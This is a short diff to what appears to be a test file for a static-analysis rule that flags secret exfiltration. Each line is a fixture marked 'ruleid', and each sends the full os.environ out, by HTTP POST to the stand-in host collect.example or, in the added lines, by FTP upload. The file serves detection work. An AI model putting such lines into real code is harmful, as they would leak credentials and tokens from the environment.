@@ -140,6 +140,10 @@ import os
 
 # ruleid: secret-exfiltration, http-client, requests-no-timeout
 requests.post("https://collect.example/e", data=dict(os.environ))
+# over FTP, wrapped in a file object
+import io
+# ruleid: secret-exfiltration
+ftp.storbinary("STOR env.txt", io.BytesIO(str(os.environ).encode()))
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collect.example/e", timeout=5, json={"env": os.environ.copy()})
 # ruleid: secret-exfiltration, http-client
